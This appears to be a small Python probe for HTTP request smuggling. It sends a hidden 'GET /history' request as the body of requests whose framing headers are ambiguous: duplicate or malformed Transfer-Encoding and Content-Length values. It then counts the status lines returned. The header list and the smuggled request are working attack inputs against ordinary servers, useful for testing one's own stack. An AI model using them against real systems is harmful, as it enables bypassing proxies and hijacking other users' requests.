"""A request hidden in another's body, by a client that leaves unsure where that body ends."""

import re
import socket

INSIDE = "GET /history HTTP/1.1\r\nHost: h\r\n\r\n"
# Each is what a proxy may take for a body, and a careless server for none.
UNSURE = (
    "Transfer-Encoding: chunked",
    "Transfer-Encoding : chunked",
    "Transfer-Encoding: chunked\r\nContent-Length: 0",
    f"Content-Length: 0\r\nContent-Length: {len(INSIDE)}",
    "Content-Length: -1",
    "Content-Length: +0",
    "Content-Length: 0x0",
    "Content-Length: " + "9" * 5000,
)


def hidden(address: tuple[str, int], head: str) -> list[int]:
    """Send a request with ``INSIDE`` for its body; the status of each answer until the server hangs up."""
    with socket.create_connection(address, 20) as connection:
        connection.sendall(f"{head}\r\n\r\n{INSIDE}".encode())
        told = b""
        while more := connection.recv(65536):
            told += more
    return [int(status) for status in re.findall(rb"HTTP/1\.1 (\d{3})", told)]
